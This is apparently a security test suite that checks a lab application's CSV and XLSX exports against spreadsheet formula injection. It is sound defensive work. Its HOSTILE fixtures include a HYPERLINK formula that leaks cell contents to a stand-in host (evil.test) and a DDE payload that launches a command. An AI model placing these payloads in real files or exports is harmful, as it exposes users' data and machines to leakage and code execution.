import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { spreadsheetCell } from '../../../../src/server/services/documents/spreadsheet-cells.ts';
import { useTestApp, type TestResponse } from '../../support/test-app.ts';

// Text a person typed (a sample's code, type, source, who received it; an imported
// reference cell) leaves in every CSV and XLSX file the product writes. A cell that a spreadsheet
// would read as a formula must leave as text (a leading single quote, OWASP), while numbers stay
// numbers. The same hostile cells go through each export over the real API.

const t = useTestApp();

const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
  command: "+cmd|' /C calc'!A0",
  at: '@SUM(1)',
  minus: '-2+3',
  // Papaparse's own escapeFormulae misses a formula followed by a line break in the same cell.
  multiline: '=1+1\nsecond line',
};
const hostileTexts = Object.values(HOSTILE);

/**
 * A text cell a spreadsheet would run: it begins with =, +, -, @, tab or carriage return. A CSV
 * cell that is a plain number ("-25.3") is read as that number.
 */
const runsAsFormula = (cell: unknown) =>
  typeof cell === 'string' && /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

async function bytesOf(res: TestResponse) {
  return Buffer.from(await res.raw.arrayBuffer());
}

function csvCells(text: string) {
  const parsed = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data.flat();
}

async function xlsxCells(res: TestResponse) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load((await bytesOf(res)) as unknown as ArrayBuffer);
  const cells: unknown[] = [];
  for (const sheet of workbook.worksheets)
    sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell.formula ? { formula: cell.formula } : cell.value)));
  return cells;
}

/** Every hostile text is there, quoted as text, and no cell would run as a formula. */
function expectNeutralised(cells: unknown[], texts: readonly string[]) {
  expect(cells.filter(runsAsFormula)).toEqual([]);
  expect(cells.filter((c) => typeof c === 'object' && c !== null && 'formula' in c)).toEqual([]);
  for (const text of texts) expect(cells).toContain(`'${text}`);
}

/** Samples whose typed fields are hostile, created and checked in through the client-side lab. */
async function hostileSamples(token: string) {
  const forms = [
    { sampleCode: HOSTILE.hyperlink, sampleType: HOSTILE.command, source: HOSTILE.at, receivedBy: HOSTILE.minus },
    { sampleCode: HOSTILE.multiline, sampleType: 'Cotton', source: '\t=1+2', receivedBy: '\r@SUM(2)' },
  ];
  for (const form of forms) {
    const created = await t.request('POST', '/api/cs-lab/create', {
      token,
      body: { sampleCode: form.sampleCode, sampleType: form.sampleType, source: form.source, fromClientInfo: 'Acme' },
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const checkedIn = await t.request('PUT', `/api/cs-lab/check-in?id=${created.body.data.id}&entry=sample`, {
      token,
      body: { receivedDate: '2026-03-02T09:00:00.000Z', receivedBy: form.receivedBy, initialWeight: 12.5, unit: 'g' },
    });
    expect(checkedIn.status, JSON.stringify(checkedIn.body)).toBe(200);
  }
}

describe('[SECURITY] formula cells in exported files', () => {
  it('quotes formula-leading text and leaves numbers, dates and plain text alone', () => {
    for (const text of [...hostileTexts, '\t=1', '\r=1', '-1+cmd']) expect(spreadsheetCell(text)).toBe(`'${text}`);
    // A spreadsheet splitting on ";" (Vietnamese Excel) or "," would start a formula mid-cell.
    for (const text of ['Cotton;=1+1', 'a, @SUM(1)', 'x\t+cmd', 'Rice; -2+3'])
      expect(spreadsheetCell(text)).toBe(`'${text}`);
    for (const text of ['-27.05', '12; -3.5', 'Cotton, 60/40']) expect(spreadsheetCell(text)).toBe(text);
    expect(spreadsheetCell(-25.3)).toBe(-25.3);
    expect(spreadsheetCell('Cotton')).toBe('Cotton');
    expect(spreadsheetCell("'=already quoted")).toBe("'=already quoted");
    expect(spreadsheetCell(null)).toBe(null);
    const date = new Date();
    expect(spreadsheetCell(date)).toBe(date);
  });

  it('neutralises the reference export (imported cells) and keeps negative δ values as numbers', async () => {
    const admin = await t.signInAsAdmin();
    const csv = Papa.unparse(
      [
        ['sampleCode', 'material', 'countryCode', 'region', 'verifiedBy', 'classify', 'd13C', 'd2H'],
        [HOSTILE.hyperlink, 'Rice', 'VN', HOSTILE.command, HOSTILE.at, HOSTILE.minus, '-25.3', '-60'],
        [HOSTILE.multiline, 'Rice', 'VN', '\t=1+2', '\r@SUM(2)', 'Satisfied', '-27.1', '-65'],
      ],
      { quotes: true },
    );
    const form = new FormData();
    form.set('file', new File([csv], 'hostile.csv'));
    const imported = await t.request('POST', '/api/clean-isotope/import', { token: admin, form });
    expect(imported.status, JSON.stringify(imported.body)).toBe(200);
    expect(imported.body.data).toMatchObject({ created: 2 });

    const res = await t.request('POST', '/api/clean-isotope/export-csv?material=Rice', { token: admin });
    expect(res.status).toBe(200);
    const text = (await bytesOf(res)).toString('utf8');
    expectNeutralised(csvCells(text), hostileTexts);
    // Imported cells are trimmed, so a tab- or CR-led formula arrives as the formula itself.
    expect(csvCells(text)).toEqual(expect.arrayContaining(["'=1+2", "'@SUM(2)"]));
    const rows = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true }).data;
    // A negative δ value is a number in the file, not quoted text.
    expect(rows.map((r) => r.d13C)).toEqual(expect.arrayContaining(['-25.3', '-27.1']));
    expect(text).toMatch(/,-25\.3,-60,/);
  });

  for (const [kind, path] of [
    ['source', '/api/report/sample-entry-source'],
    ['status', '/api/report/sample-by-status'],
  ] as const) {
    it(`neutralises the report by ${kind}, as CSV and as XLSX`, async () => {
      const admin = await t.signInAsAdmin();
      await hostileSamples(admin);

      const csv = await t.request('GET', `${path}?format=csv`, { token: admin });
      expect(csv.status).toBe(200);
      const csvText = (await bytesOf(csv)).toString('utf8');
      expectNeutralised(csvCells(csvText), hostileTexts);

      const xlsx = await t.request('GET', `${path}?format=xlsx`, { token: admin });
      expect(xlsx.status).toBe(200);
      const cells = await xlsxCells(xlsx);
      expectNeutralised(cells, hostileTexts);
      // Weights stay numbers, received dates stay dates.
      expect(cells).toContain(12.5);
      expect(cells.some((c) => c instanceof Date)).toBe(true);
    });
  }
});
